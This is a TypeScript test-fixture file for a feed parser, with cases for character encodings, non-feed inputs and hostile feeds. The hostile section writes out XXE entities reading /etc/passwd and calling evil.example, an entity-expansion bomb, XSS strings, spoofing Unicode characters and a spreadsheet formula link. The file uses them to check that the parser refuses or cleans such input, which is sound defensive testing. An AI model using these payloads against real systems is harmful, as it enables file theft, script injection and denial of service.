import { atom, entry, feedCase, item, json, rss, titled, XML, type FeedCase } from './case.ts';

const latin = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const utf16 = (text: string, isBig = false): Uint8Array => {
  const bytes = Buffer.from(text, 'utf16le');
  return isBig ? bytes.swap16() : bytes;
};
const declaring = (encoding: string): string => `<?xml version="1.0" encoding="${encoding}"?>\n`;
const CAFE = titled('Café');

/** Encodings, said rightly, wrongly, and not at all. */
const ENCODINGS: readonly FeedCase[] = [
  feedCase('UTF-8, not said', Buffer.from(rss(CAFE, undefined, '')), { items: [{ title: 'Café' }] }),
  feedCase('UTF-8 with a mark', Buffer.from(`\uFEFF${rss(CAFE)}`), { items: [{ title: 'Café' }] }),
  feedCase('Latin-1, said in the document', latin(rss(CAFE, undefined, declaring('ISO-8859-1'))), {
    items: [{ title: 'Café' }],
  }),
  feedCase(
    'Latin-1, said by the server',
    latin(rss(CAFE, undefined, '')),
    { items: [{ title: 'Café' }] },
    'iso-8859-1',
  ),
  feedCase(
    'Windows-1252 with its own quotes',
    Buffer.from(
      Buffer.from(rss(titled('XQY'), undefined, declaring('windows-1252')))
        .toString('latin1')
        .replace('XQY', '\x93Q\x94'),
      'latin1',
    ),
    { items: [{ title: '“Q”' }] },
  ),
  feedCase('Latin-1 that says it is UTF-8', latin(rss(CAFE)), { items: [{ title: 'Café' }] }),
  feedCase(
    'UTF-8 that says it is ASCII',
    Buffer.from(rss(titled('Plain'), undefined, declaring('us-ascii'))),
    { items: [{ title: 'Plain' }] },
  ),
  feedCase('UTF-16 with a mark', utf16(`\uFEFF${rss(CAFE, undefined, declaring('UTF-16'))}`), {
    items: [{ title: 'Café' }],
  }),
  feedCase('UTF-16, big end first', utf16(`\uFEFF${rss(CAFE, undefined, declaring('UTF-16'))}`, true), {
    items: [{ title: 'Café' }],
  }),
  feedCase('UTF-16 without a mark', utf16(rss(CAFE, undefined, declaring('UTF-16'))), {
    items: [{ title: 'Café' }],
  }),
  feedCase(
    'ISO-8859-14, the Celtic one',
    Buffer.from(
      Buffer.from(rss(titled('XQY'), undefined, declaring('iso-8859-14')))
        .toString('latin1')
        .replace('XQY', '\xf0y'),
      'latin1',
    ),
    { items: [{ title: 'ŵy' }] },
  ),
  feedCase('an encoding that nobody knows', rss(titled('A'), undefined, declaring('x-klingon')), {
    refused: 'encoding',
  }),
  feedCase('a charset that nobody knows', rss(titled('A')), { refused: 'encoding' }, 'x-klingon'),
];

/** What is no feed, or is one no more. */
const BROKEN: readonly FeedCase[] = [
  feedCase('nothing', '', { refused: 'empty' }),
  feedCase('blanks', ' \n\t ', { refused: 'empty' }),
  feedCase(
    'a page',
    '<!doctype html><html><head><title>Not here</title></head><body><p>404</p></body></html>',
    { refused: 'not_a_feed' },
  ),
  feedCase('a page in XHTML', `${XML}<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`, {
    refused: 'not_a_feed',
  }),
  feedCase('a plain text', 'Service unavailable', { refused: 'not_a_feed' }),
  feedCase('JSON of another kind', '{"status":"ok","data":[]}', { refused: 'not_a_feed' }),
  feedCase('JSON that breaks off', json([{ id: '1', title: 'A' }]).slice(0, -5), { refused: 'not_a_feed' }),
  feedCase('a list in JSON', '[1,2,3]', { refused: 'not_a_feed' }),
  feedCase('null', 'null', { refused: 'not_a_feed' }),
  feedCase(
    'a site map',
    `${XML}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://news.example/</loc></url></urlset>`,
    { refused: 'not_a_feed' },
  ),
  feedCase(
    'a list of feeds (OPML)',
    `${XML}<opml version="2.0"><body><outline xmlUrl="https://news.example/x"/></body></opml>`,
    { refused: 'not_a_feed' },
  ),
  feedCase('a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 1, 2, 3]), {
    refused: 'not_a_feed',
  }),
  feedCase('RSS that breaks off in a title', '<rss version="2.0"><channel><item><title>A', {
    refused: 'unreadable',
  }),
  feedCase(
    'an error message behind the first item',
    `${rss(titled('A')).slice(0, -16)}<b>Fatal error</b>: line 12`,
    {
      items: [{ title: 'A' }],
    },
  ),
];

/** What was made to do harm. */
const HOSTILE: readonly FeedCase[] = [
  feedCase(
    'entities that blow up',
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "AAAAAAAAAA"><!ENTITY b "&a;&a;&a;&a;&a;">]>${rss(titled('&b;'), undefined, '')}`,
    { refused: 'entities' },
  ),
  feedCase(
    'an entity that reads a file',
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rss(titled('&x;'), undefined, '')}`,
    { refused: 'entities' },
  ),
  feedCase(
    'an entity that asks the web',
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x.dtd">%x;]>${rss(titled('A'), undefined, '')}`,
    { refused: 'entities' },
  ),
  feedCase(
    'an entity in small letters',
    `<?xml version="1.0"?><!doctype r [<!entity x "y">]>${rss(titled('&x;'), undefined, '')}`,
    { refused: 'entities' },
  ),
  feedCase(
    'a document type without entities',
    `<?xml version="1.0"?><!DOCTYPE rss>${rss(titled('A'), undefined, '')}`,
    { items: [{ title: 'A' }] },
  ),
  feedCase('an entity that nobody declared', rss(titled('A &unknown; B')), {
    items: [{ title: 'A &unknown; B' }],
  }),
  feedCase(
    'a script',
    rss(
      titled('A', '<description><![CDATA[<script>alert(1)</script>Text<style>b{}</style>]]></description>'),
    ),
    { items: [{ text: 'Text' }] },
  ),
  feedCase(
    'a handler',
    rss(
      titled(
        'A',
        '<description><![CDATA[<p onclick="alert(1)">Text</p><iframe src="x">no</iframe>]]></description>',
      ),
    ),
    { items: [{ text: 'Text' }] },
  ),
  feedCase('a script in a title', rss(titled('&lt;script&gt;alert(1)&lt;/script&gt;Real')), {
    items: [{ title: 'Real' }],
  }),
  feedCase('a script, escaped twice', rss(titled('&amp;lt;script&amp;gt;x&amp;lt;/script&amp;gt;')), {
    items: [{ title: '<script>x</script>' }],
  }),
  feedCase(
    'a picture that runs',
    atom(
      entry(
        '<title>A</title><content type="html">&lt;svg onload=alert(1)&gt;&lt;text&gt;in&lt;/text&gt;&lt;/svg&gt;Out</content>',
      ),
    ),
    { items: [{ text: 'Out' }] },
  ),
  feedCase(
    'card templates and mentions',
    rss(titled('${title} &lt;at&gt;Everyone&lt;/at&gt; {{x}} [a](b)')),
    { items: [{ title: '${title} Everyone {{x}} [a](b)' }] },
  ),
  feedCase('letters that turn the direction', rss(titled('abc\u202Efdp.exe\u2066x\u2069')), {
    items: [{ title: 'abcfdp.exex' }],
  }),
  feedCase('letters that nobody sees', rss(titled('pay\u200Bpal \u2060x')), {
    items: [{ title: 'paypal x' }],
  }),
  feedCase('control characters', rss(titled('a&#7;b')), { items: [{ title: 'a b' }] }),
  feedCase(
    'a name of every object',
    json([{ id: '__proto__', title: 'constructor', url: 'https://news.example/p' }]),
    { items: [{ title: 'constructor' }] },
  ),
  feedCase(
    'ten thousand elements in one another',
    rss(titled('A', `<description><![CDATA[${'<div>'.repeat(10_000)}deep]]></description>`)),
    { items: [{ text: 'deep' }] },
  ),
  feedCase(
    'a megabyte of one word',
    rss(titled('A', `<description>${'x'.repeat(1_000_000)}</description>`)),
    { items: [{ title: 'A' }] },
  ),
  feedCase('a formula', rss(titled('=HYPERLINK("https://evil.example","x")')), {
    items: [{ title: '=HYPERLINK("https://evil.example","x")' }],
  }),
  feedCase(
    'numbers where texts belong',
    json([{ id: 7, title: 12, content_text: true, url: ['x'] }] as object[]),
    { items: [{ title: '12' }] },
  ),
  feedCase('items that are none', json(['x', null, 5, { id: '1', title: 'A' }] as object[]), {
    items: [{ title: 'A' }],
  }),
  feedCase('an item within an item', rss(item(`<title>A</title>${item('<title>B</title>')}`)), {
    items: [{ title: 'A' }],
  }),
];

export const BROKEN_CASES: readonly FeedCase[] = [...ENCODINGS, ...BROKEN, ...HOSTILE];
